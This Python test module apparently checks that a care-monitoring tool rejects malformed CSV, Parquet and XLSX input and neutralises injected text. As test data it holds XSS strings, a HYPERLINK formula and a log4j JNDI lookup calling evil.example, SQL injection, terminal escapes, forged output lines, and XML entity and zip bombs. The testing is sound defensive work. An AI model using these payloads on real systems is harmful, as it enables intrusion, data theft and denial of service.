"""Monitoring data no person would record, field by field and file by file: every value is
either read as a person means it or is an invalid record naming the file, row, field and
value (``--strict`` stops at it; without it the run goes on and counts it); every file that
cannot be read is one clear error naming it. Text that could forge an output line, run as a
spreadsheet formula or as script in the report comes out inert.

The data is the continence ruleset's sample (`Workspace.sample`), one value or file changed.
"""

from __future__ import annotations

import json
import math
from collections.abc import Callable
from pathlib import Path
from typing import Any

from tests.hostile.corpus import Case, Workspace

RULESET = "{rulesets}/continence.obc"
MONITOR = ["monitor", RULESET, "--data", "{root}/data", "--out", "{root}/out"]
STRICT = [*MONITOR, "--strict"]
WHOLE_NUMBERS = ["age", "falls_12m", "delayed_discharge_days", "wemwbs_start", "wemwbs_end"]


# Parquet: a DOUBLE column where the field is a whole number ---------------------------------

def _double(field: str, value: float) -> Callable[[Workspace], None]:
    """The sample's people as Parquet, ``field`` a DOUBLE column whose first value is
    ``value``."""

    def setup(workspace: Workspace) -> None:
        import pyarrow as pa

        people = workspace.sample("continence")["people"]
        values = [None if v is None else float(v) for v in people.column(field).to_pylist()]
        values[0] = value
        index = people.schema.get_field_index(field)
        workspace.parquet("data/people.parquet",
                          people.set_column(index, field, pa.array(values, pa.float64())))

    return setup


DOUBLES = {"nan": math.nan, "inf": math.inf, "minus-inf": -math.inf, "1e300": 1e300,
           "minus-1e300": -1e300, "1e19": 1e19, "1e308": 1e308, "2-point-5": 2.5}
SHOWN = {"nan": "nan", "inf": "inf", "minus-inf": "-inf", "1e300": "1e+300",
         "minus-1e300": "-1e+300", "1e19": "1e+19", "1e308": "1e+308", "2-point-5": "2.5"}
ALREADY = {("wemwbs_start", "nan"), ("wemwbs_start", "inf"), ("wemwbs_start", "minus-inf"),
           ("wemwbs_start", "1e300")}
"""In cases_engine.py, where the issue's own input is."""


def _invalid_row_listed(field: str, row: int = 2) -> Callable[[Path], None]:
    """monitoring.json lists the record as invalid, naming the field."""

    def check(root: Path) -> None:
        document = json.loads((root / "out" / "monitoring.json").read_text(encoding="utf-8"))
        found = [entry for entry in document["data_quality"]
                 if entry.get("row") == row and entry.get("field") == field
                 and entry.get("table") == "people"]
        assert found, document["data_quality"][:5]

    return check


PARQUET_DOUBLES = [
    Case(f"parquet-double-{field}-{label}", STRICT, exit=1,
         message=f"people.parquet:2: {field}: '{SHOWN[label]}' is not a whole number",
         setup=_double(field, value))
    for field in WHOLE_NUMBERS for label, value in DOUBLES.items()
    if (field, label) not in ALREADY
] + [
    Case(f"parquet-double-{field}-nan-counted", MONITOR, exit=0,
         message="invalid record(s) excluded", setup=_double(field, math.nan),
         check=_invalid_row_listed(field))
    for field in WHOLE_NUMBERS
]


# CSV: text where a whole number, a date or a flag belongs -----------------------------------

def _csv_value(table: str, field: str, text: str) -> Callable[[Workspace], None]:
    """The sample data with ``table`` as CSV, ``field`` of its first record ``text``."""

    def setup(workspace: Workspace) -> None:
        import csv
        import io

        tables = workspace.sample("continence")
        (workspace.root / "data" / f"{table}.parquet").unlink()
        data = tables[table]
        names = data.column_names
        buffer = io.StringIO()
        writer = csv.writer(buffer, lineterminator="\n")
        writer.writerow(names)
        for number, record in enumerate(data.to_pylist()):
            cells = ["" if record[n] is None else _text(record[n]) for n in names]
            if number == 0:
                cells[names.index(field)] = text
            writer.writerow(cells)
        workspace.write(f"data/{table}.csv", buffer.getvalue())

    return setup


def _text(value: Any) -> str:
    if isinstance(value, bool):
        return "true" if value else "false"
    return str(value)


def _csv_invalid(table: str, field: str, label: str, text: str, shown: str | None = None,
                 why: str = "") -> Case:
    return Case(f"csv-{table}-{field}-{label}", STRICT, exit=1,
                message=f"{table}.csv:2: {field}: {shown or repr(text)}{why}",
                setup=_csv_value(table, field, text))


def _csv_valid(table: str, field: str, label: str, text: str) -> Case:
    return Case(f"csv-{table}-{field}-{label}-is-read", MONITOR, exit=0, message="wrote",
                setup=_csv_value(table, field, text), check=_row_valid(table, field))


def _row_valid(table: str, field: str, row: int = 2) -> Callable[[Path], None]:
    """monitoring.json lists no problem with ``field`` of the record."""

    def check(root: Path) -> None:
        document = json.loads((root / "out" / "monitoring.json").read_text(encoding="utf-8"))
        assert not [entry for entry in document["data_quality"]
                    if entry.get("row") == row and entry.get("field") == field
                    and entry.get("table") == table], document["data_quality"][:5]

    return check


NOT_WHOLE = " is not a whole number"
WHOLE_TEXTS = {
    "nan": "NaN", "nan-lower": "nan", "infinity": "Infinity", "minus-infinity": "-Infinity",
    "inf": "inf", "1e308": "1e308", "1e300": "1e300", "400-digits": "9" * 400,
    "minus-400-digits": "-" + "9" * 400, "hex": "0x1A", "underscores": "1_000",
    "arabic-indic-digits": "\u0661\u0662", "full-width-digits": "\uff11\uff12",
    "fraction": "12.5", "double-minus": "--12", "thousands-comma": "1,000",
    "trailing-letters": "12abc", "sql": "1; DROP TABLE people; --", "backslash": "\\",
    "quote-backslash": "'\\", "null-word": "NULL", "int64-overflow": "9223372036854775808",
    "superscript": "\u00b9\u00b2", "vulgar-fraction": "\u00bd",
}
DATE_TEXTS = {
    "february-30": "2025-02-30", "month-13": "2025-13-01",
    "unpadded": "2025-1-6", "day-first": "06/01/2025", "compact": "20250106",
    "backslash-end": "2025-01-06\\", "sql": "2025-01-06' OR '1'='1",
    "far-future": "99999-01-01", "words": "next tuesday", "negative-year": "-2025-01-06",
}
FLAG_TEXTS = {"ja": "ja", "two": "2", "minus-one": "-1", "tru": "tru", "backslash": "\\",
              "sql": "true' OR '1'='1", "null-word": "NULL", "on": "on"}

CSV_VALUES = [
    *[_csv_invalid("people", "age", label, text) for label, text in WHOLE_TEXTS.items()
      if label not in ("400-digits", "minus-400-digits")],
    _csv_invalid("people", "age", "400-digits", "9" * 400, shown="'" + "9" * 20),
    _csv_invalid("people", "age", "minus-400-digits", "-" + "9" * 400,
                 shown="'-" + "9" * 20),
    *[_csv_invalid("sessions", "session_date", label, text)
      for label, text in DATE_TEXTS.items()],
    *[_csv_invalid("people", "continence_problem", label, text)
      for label, text in FLAG_TEXTS.items()],
    # an identifier is compared exactly: 'x1 ' would be a person (a provider) apart from 'x1'
    *[_csv_invalid("people", field, label, text, why=" begins or ends with a space")
      for field, label, text in (("person_id", "space-at-the-end", "x1 "),
                                 ("person_id", "space-at-the-start", " x1"),
                                 ("provider", "space-at-the-end", "Oakwood Care "))],
    _csv_valid("people", "age", "plus-sign", "+89"),
    _csv_valid("people", "age", "spaces-around", " 89 "),
    _csv_valid("people", "continence_problem", "yes-upper", "YES"),
    _csv_valid("sessions", "session_date", "iso", "2025-01-07"),
]


# Text that could forge output, run as a formula or as script --------------------------------

def _provider(name: str) -> Callable[[Workspace], None]:
    """The sample data with the first provider of people and sessions renamed ``name``."""

    def setup(workspace: Workspace) -> None:
        import pyarrow as pa

        tables = workspace.sample("continence")
        first = tables["people"].column("provider")[0].as_py()
        for table_name in ("people", "sessions"):
            table = tables[table_name]
            index = table.schema.get_field_index("provider")
            names = [name if v == first else v for v in table.column("provider").to_pylist()]
            workspace.parquet(f"data/{table_name}.parquet",
                              table.set_column(index, "provider", pa.array(names, pa.string())))

    return setup


def _report_inert(fragment: str) -> Callable[[Path], None]:
    """The HTML report holds ``fragment`` nowhere as markup (only escaped)."""

    def check(root: Path) -> None:
        html = (root / "out" / "monitoring.html").read_text(encoding="utf-8")
        assert fragment not in html, fragment

    return check


REPORTED = ["monitor", RULESET, "--data", "{root}/data", "--out", "{root}/out", "--html"]
PROVIDER_NAMES: dict[str, tuple[str, str]] = {
    # id: (the name, what must not appear as such in the HTML report)
    "script": ("<script>alert(1)</script>", "<script>alert(1)"),
    "img-onerror": ('<img src=x onerror="alert(1)">', "<img src=x"),
    "attribute-break": ('Oak" onmouseover="alert(1)', '" onmouseover="alert(1)'),
    "formula": ('=HYPERLINK("http://evil.example/?"&A1,"Acme")', "<a href=\"http://evil"),
    "sql": ("Oak'; DROP TABLE people; --", "<script"),
    "backslash-end": ("Oak\\", "<script"),
    "template": ("{{ 7*7 }} {% raw %}", ">49<"),
    "log4j": ("${jndi:ldap://evil.example/a}", "<script"),
    "right-to-left-override": ("Oak\u202eevil", "<script"),
    "zero-width": ("Oak\u200bwood", "<script"),
    "nul": ("Oak\x00wood", "<script"),
    "ten-thousand-characters": ("O" * 10_000, "<script"),
    "emoji": ("Oak \U0001f525\U0001f525", "<script"),
    "markdown-link": ("[Oak](javascript:alert(1))", 'href="javascript:'),
}
FORGED = "\nwrote /etc/passwd"
TEXT_VALUES = [
    *[Case(f"text-provider-{label}", REPORTED, exit=0, message="wrote",
           setup=_provider(name), check=_report_inert(fragment))
      for label, (name, fragment) in PROVIDER_NAMES.items()],
    Case("text-provider-newline-forging-a-line", MONITOR, exit=0, message="wrote",
         setup=_provider("Oak" + FORGED), forbidden=[FORGED]),
    Case("text-provider-carriage-return", MONITOR, exit=0, message="wrote",
         setup=_provider("Oak\rwrote /etc/passwd"), forbidden=["\rwrote /etc/passwd"]),
    Case("text-provider-terminal-escape", MONITOR, exit=0, message="wrote",
         setup=_provider("Oak\x1b]0;owned\x07\x1b[2J"), forbidden=["\x1b"]),
]


# Files that are not what their name says ------------------------------------------------------

def _replaced(name: str, content: bytes | Callable[[Workspace], bytes],
              remove: str = "people.parquet") -> Callable[[Workspace], None]:
    """The sample data, ``remove`` deleted and ``data/<name>`` written with ``content``."""

    def setup(workspace: Workspace) -> None:
        workspace.sample("continence")
        data = content(workspace) if callable(content) else content
        (workspace.root / "data" / remove).unlink()
        workspace.write(f"data/{name}", data)

    return setup


def _people_csv(workspace: Workspace) -> bytes:
    import pyarrow.csv as pacsv

    path = workspace.root / "people-sample.csv"
    pacsv.write_csv(workspace.sample("continence", "sample-copy")["people"], path)
    return path.read_bytes()


def _edited_csv(edit: Callable[[bytes], bytes]) -> Callable[[Workspace], bytes]:
    return lambda workspace: edit(_people_csv(workspace))


def _parquet_bytes(workspace: Workspace) -> bytes:
    return (workspace.root / "data" / "people.parquet").read_bytes()


def _people_as(change: Callable[[Any], Any]) -> Callable[[Workspace], None]:
    """The sample data, people rewritten as ``change`` returns it (an Arrow table)."""

    def setup(workspace: Workspace) -> None:
        people = workspace.sample("continence")["people"]
        workspace.parquet("data/people.parquet", change(people))

    return setup


def _column(field: str, make: Callable[[list[Any]], Any]) -> Callable[[Any], Any]:
    def change(people: Any) -> Any:
        index = people.schema.get_field_index(field)
        return people.set_column(index, field, make(people.column(field).to_pylist()))

    return change


def _xlsx(workspace: Workspace, edit: Callable[[Any], None] | None = None) -> bytes:
    """The sample's people as an XLSX workbook (its sheet ``people``), then ``edit``-ed."""
    from openpyxl import Workbook

    people = workspace.sample("continence", "sample-copy")["people"]
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.title = "people"
    sheet.append(people.column_names)
    for record in people.to_pylist()[:40]:
        sheet.append([record[n] for n in people.column_names])
    if edit is not None:
        edit(book)
    path = workspace.root / "people-sample.xlsx"
    book.save(path)
    return path.read_bytes()


def _edited_xlsx(edit: Callable[[Any], None]) -> Callable[[Workspace], bytes]:
    return lambda workspace: _xlsx(workspace, edit)


def _decoy_first(state: str, real_title: str = "people") -> Callable[[Any], None]:
    """A worksheet before the data whose ages say ``decoy`` (``state``: hidden or visible);
    the data's sheet titled ``real_title``."""

    def edit(book: Any) -> None:
        decoy = book.create_sheet("Decoy", 0)
        for row in book["people"].iter_rows(values_only=True):
            decoy.append(row)
        for cell in decoy["D"][1:]:
            cell.value = "decoy"
        decoy.sheet_state = state
        book.active = 1
        book["people"].title = real_title

    return edit


def _hide_row(row: int) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        book["people"].row_dimensions[row].hidden = True

    return edit


def _hide_column(letter: str) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        book["people"].column_dimensions[letter].hidden = True

    return edit


def _formula(book: Any) -> None:
    book["people"]["D2"] = "=80+9"


def _xlsx_part(part: str, edit: Callable[[bytes], bytes]) -> Callable[[Workspace], bytes]:
    """The sample's people as XLSX with one part of the package edited."""

    def make(workspace: Workspace) -> bytes:
        import io
        import zipfile

        source = zipfile.ZipFile(io.BytesIO(_xlsx(workspace)))
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as target:
            for item in source.infolist():
                data = source.read(item.filename)
                if item.filename == part:
                    data = edit(data)
                if data:
                    target.writestr(item, data)
        return buffer.getvalue()

    return make


BILLION_LAUGHS = (b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
                  b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                  b'<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                  b'<worksheet>&lol3;</worksheet>')
SHEET = "xl/worksheets/sheet1.xml"
UNREADABLE_XLSX = "cannot be read as an XLSX workbook"

FILE_SHAPES = [
    Case("file-csv-empty", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", b"")),
    Case("file-csv-only-a-byte-order-mark", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", b"\xef\xbb\xbf")),
    Case("file-csv-header-only", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.csv", _edited_csv(lambda b: b.split(b"\n")[0] + b"\n"))),
    Case("file-csv-byte-order-mark-then-data", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.csv", _edited_csv(lambda b: b"\xef\xbb\xbf" + b))),
    Case("file-csv-crlf-lines", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.csv", _edited_csv(lambda b: b.replace(b"\n", b"\r\n")))),
    Case("file-csv-cr-only-lines", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.csv", _edited_csv(lambda b: b.replace(b"\n", b"\r")))),
    Case("file-csv-nul-byte-in-a-name", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.csv", _edited_csv(lambda b: b.replace(b"Oak", b"O\0ak", 1)))),
    Case("file-csv-latin-1", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", _edited_csv(
             lambda b: b.replace(b"Oakwood", "Oakwöod".encode("latin-1"), 1)))),
    Case("file-csv-utf-16", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", _edited_csv(
             lambda b: b.decode("utf-8").encode("utf-16")))),
    Case("file-csv-binary-garbage", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", bytes(range(256)) * 40)),
    Case("file-csv-gzip-named-csv", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", b"\x1f\x8b\x08\x00" + bytes(200))),
    Case("file-csv-ten-thousand-columns", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", ",".join(f"c{i}" for i in range(10_000)).encode()
                         + b"\n" + b"," * 9_999 + b"\n")),
    Case("file-csv-empty-header-name", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", _edited_csv(lambda b: b.replace(b"\n", b",\n", 1)))),
    Case("file-csv-repeated-header", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", _edited_csv(
             lambda b: b.replace(b"\n", b',"age"\n', 1)))),
    Case("file-csv-record-longer-than-the-header", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", _edited_csv(
             lambda b: b.replace(b"\n", b"\n", 1).rstrip(b"\n") + b",extra,cells\n"))),
    Case("file-csv-record-shorter-than-the-header", MONITOR, exit=1, message="people.csv",
         setup=_replaced("people.csv", _edited_csv(
             lambda b: b + b"OAK-x,Oakwood Care,2025-Q1\n"))),
    Case("file-parquet-random-bytes", MONITOR, exit=1, message="people.parquet",
         setup=_replaced("people.parquet", bytes(range(256)) * 8)),
    Case("file-parquet-truncated", MONITOR, exit=1, message="people.parquet",
         setup=_replaced("people.parquet",
                         lambda w: _parquet_bytes(w)[: len(_parquet_bytes(w)) // 2])),
    Case("file-parquet-magic-only", MONITOR, exit=1, message="people.parquet",
         setup=_replaced("people.parquet", b"PAR1PAR1")),
    Case("file-parquet-empty", MONITOR, exit=1, message="people.parquet",
         setup=_replaced("people.parquet", b"")),
    Case("file-parquet-no-rows", MONITOR, exit=0, message="wrote",
         setup=_people_as(lambda p: p.slice(0, 0))),
    Case("file-parquet-age-as-text", MONITOR, exit=0, message="wrote",
         check=_row_valid("people", "age"),
         setup=_people_as(_column("age", lambda v: __import__("pyarrow").array(
             [None if x is None else str(x) for x in v])))),
    Case("file-parquet-age-as-text-not-a-number", STRICT, exit=1,
         message="people.parquet:2: age: 'eighty'",
         setup=_people_as(_column("age", lambda v: __import__("pyarrow").array(
             ["eighty"] + [None if x is None else str(x) for x in v[1:]])))),
    Case("file-parquet-age-as-a-list", STRICT, exit=1, message="people.parquet:2: age: ",
         setup=_people_as(_column("age", lambda v: __import__("pyarrow").array(
             [[x] for x in v])))),
    Case("file-parquet-age-as-a-struct", STRICT, exit=1, message="people.parquet:2: age: ",
         setup=_people_as(_column("age", lambda v: __import__("pyarrow").array(
             [{"years": x} for x in v])))),
    Case("file-parquet-age-as-a-decimal", MONITOR, exit=0, message="wrote",
         check=_row_valid("people", "age"),
         setup=_people_as(_column("age", lambda v: __import__("pyarrow").array(
             [None if x is None else __import__("decimal").Decimal(x) for x in v],
             __import__("pyarrow").decimal128(38, 10))))),
    Case("file-parquet-age-as-a-timestamp", STRICT, exit=1, message="people.parquet:2: age: ",
         setup=_people_as(_column("age", lambda v: __import__("pyarrow").array(
             [None if x is None else x * 10**9 for x in v],
             __import__("pyarrow").timestamp("ns"))))),
    Case("file-parquet-flag-as-a-number", [*MONITOR, "--strict"], exit=1,
         message="people.parquet:2: continence_problem",
         setup=_people_as(_column("continence_problem", lambda v: __import__("pyarrow").array(
             [7] + [None if x is None else int(x) for x in v[1:]])))),
    Case("file-parquet-provider-dictionary-encoded", MONITOR, exit=0, message="wrote",
         setup=_people_as(_column("provider", lambda v: __import__("pyarrow").array(v)
                                  .dictionary_encode()))),
    Case("file-parquet-provider-large-string", MONITOR, exit=0, message="wrote",
         setup=_people_as(_column("provider", lambda v: __import__("pyarrow").array(
             v, __import__("pyarrow").large_string())))),
    Case("file-parquet-provider-as-binary", MONITOR, exit=0, message="wrote",
         setup=_people_as(_column("provider", lambda v: __import__("pyarrow").array(
             [None if x is None else x.encode() for x in v], __import__("pyarrow").binary())))),
    Case("file-xlsx-people", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.xlsx", _xlsx)),
    Case("file-xlsx-formula", MONITOR, exit=1,
         message="people.xlsx: cell D2 holds a formula (=80+9); enter a value, not a formula",
         setup=_replaced("people.xlsx", _edited_xlsx(_formula))),
    Case("file-xlsx-hidden-row-with-values", MONITOR, exit=1,
         message="people.xlsx: the worksheet 'people' hides row(s) 7, which hold values obc "
                 "would count; nobody checking the workbook sees them: unhide them",
         setup=_replaced("people.xlsx", _edited_xlsx(_hide_row(7)))),
    Case("file-xlsx-hidden-blank-row-is-fine", MONITOR, exit=0, message="wrote",
         setup=_replaced("people.xlsx", _edited_xlsx(_hide_row(60)))),
    Case("file-xlsx-hidden-column-read", MONITOR, exit=1,
         message="people.xlsx: the worksheet 'people' hides column(s) D ('age'), which obc "
                 "would read",
         setup=_replaced("people.xlsx", _edited_xlsx(_hide_column("D")))),
    Case("file-xlsx-hidden-decoy-sheet-first", [*MONITOR, "--strict"], exit=1,
         message="people.xlsx:", forbidden=["'decoy'"],
         setup=_replaced("people.xlsx", _edited_xlsx(_decoy_first("hidden", "Sheet2")))),
    Case("file-xlsx-visible-decoy-first-named-sheet-wins", [*MONITOR, "--strict"],
         exit=1, message="people.xlsx:", forbidden=["'decoy'"],
         setup=_replaced("people.xlsx", _edited_xlsx(_decoy_first("visible")))),
    Case("file-xlsx-visible-decoy-first-is-read", [*MONITOR, "--strict"],
         exit=1, message="people.xlsx:2: age: 'decoy'",
         setup=_replaced("people.xlsx", _edited_xlsx(_decoy_first("visible", "Sheet2")))),
    Case("file-xlsx-only-hidden-sheets", MONITOR, exit=1,
         message="people.xlsx: has no visible worksheet",
         setup=_replaced("people.xlsx", _xlsx_part("xl/workbook.xml", lambda b: b.replace(
             b'state="visible"', b'state="hidden"')))),
    Case("file-xlsx-random-bytes", MONITOR, exit=1, message=UNREADABLE_XLSX,
         setup=_replaced("people.xlsx", bytes(range(256)) * 8)),
    Case("file-xlsx-a-zip-without-a-workbook", MONITOR, exit=1, message=UNREADABLE_XLSX,
         setup=_replaced("people.xlsx", _xlsx_part("xl/workbook.xml", lambda b: b""))),
    Case("file-xlsx-sheet-missing", MONITOR, exit=1, message="people.xlsx: has no worksheet",
         setup=_replaced("people.xlsx", _xlsx_part(SHEET, lambda b: b""))),
    Case("file-xlsx-sheet-malformed-xml", MONITOR, exit=1, message=UNREADABLE_XLSX,
         setup=_replaced("people.xlsx", _xlsx_part(SHEET, lambda b: b[: len(b) // 2]))),
    Case("file-xlsx-sheet-undefined-entity", MONITOR, exit=1, message=UNREADABLE_XLSX,
         setup=_replaced("people.xlsx", _xlsx_part(
             SHEET, lambda b: b.replace(b"<sheetData>", b"<sheetData>&undefined;", 1)))),
    Case("file-xlsx-sheet-entity-expansion", MONITOR, exit=1, message=UNREADABLE_XLSX,
         setup=_replaced("people.xlsx", _xlsx_part(SHEET, lambda b: BILLION_LAUGHS))),
    Case("file-xlsx-workbook-malformed-xml", MONITOR, exit=1, message=UNREADABLE_XLSX,
         setup=_replaced("people.xlsx", _xlsx_part("xl/workbook.xml", lambda b: b[:40]))),
    # 64 MB of one letter in a cell packs to some 64 KB; read, it would take a gigabyte
    Case("file-xlsx-zip-bomb-cell", MONITOR, exit=1,
         message=f"people.xlsx: its part {SHEET} unpacks to 64 MB from ",
         setup=_replaced("people.xlsx", _xlsx_part(SHEET, lambda b: b.replace(
             b"</sheetData>", b'<row r="999"><c r="A999" t="inlineStr"><is><t>'
             + b"A" * (64 * 1024 * 1024) + b"</t></is></c></row></sheetData>", 1)))),
]


# The data folder itself --------------------------------------------------------------------

def _folder(make: Callable[[Workspace], None]) -> Callable[[Workspace], None]:
    def setup(workspace: Workspace) -> None:
        workspace.sample("continence")
        make(workspace)

    return setup


FOLDERS = [
    Case("folder-missing", MONITOR, exit=2, message="{root}/data: no such directory"),
    Case("folder-is-a-file", MONITOR, exit=2, message="{root}/data: no such directory",
         setup=lambda w: (w.write("data", b"PAR1"), None)[1]),
    Case("folder-empty", MONITOR, exit=1, message="no data for the table `people`",
         setup=lambda w: ((w.root / "data").mkdir(), None)[1]),
    Case("folder-a-table-file-is-a-folder", MONITOR, exit=1,
         message="no data for the table `people`",
         setup=_folder(lambda w: ((w.root / "data" / "people.parquet").unlink(),
                                  (w.root / "data" / "people.parquet").mkdir()))),
    Case("folder-two-files-for-one-table", MONITOR, exit=1,
         message="both people.csv and people.parquet hold the table people; keep one",
         setup=_folder(lambda w: w.write("data/people.csv", "provider,period\n"))),
    Case("folder-upper-case-suffix", MONITOR, exit=0, message="wrote",
         setup=_folder(lambda w: (w.root / "data" / "people.parquet").rename(
             w.root / "data" / "people.PARQUET"))),
    Case("folder-file-name-with-a-newline", MONITOR, exit=0, message="wrote",
         setup=_folder(lambda w: w.write("data/notes\nwrote /etc/passwd.csv", "a\n1\n")),
         forbidden=[FORGED]),
    Case("folder-path-with-a-newline-in-an-error",
         ["monitor", RULESET, "--data", "{root}/data" + FORGED, "--out", "{root}/out"],
         exit=2, message="no such directory", forbidden=[FORGED, "\n\n"]),
    Case("folder-path-with-a-carriage-return-in-an-error",
         ["monitor", RULESET, "--data", "{root}/data\rwrote /etc/passwd", "--out",
          "{root}/out"], exit=2, message="data\\rwrote /etc/passwd: no such directory",
         forbidden=["\r"]),
    Case("folder-office-lock-file", MONITOR, exit=0, message="wrote",
         setup=_folder(lambda w: w.write("data/~$people.xlsx", b"\0" * 162))),
    Case("folder-hidden-file", MONITOR, exit=0, message="wrote",
         setup=_folder(lambda w: w.write("data/.people.csv", b"\xff\xfe"))),
]

CASES = [*PARQUET_DOUBLES, *CSV_VALUES, *TEXT_VALUES, *FILE_SHAPES, *FOLDERS]
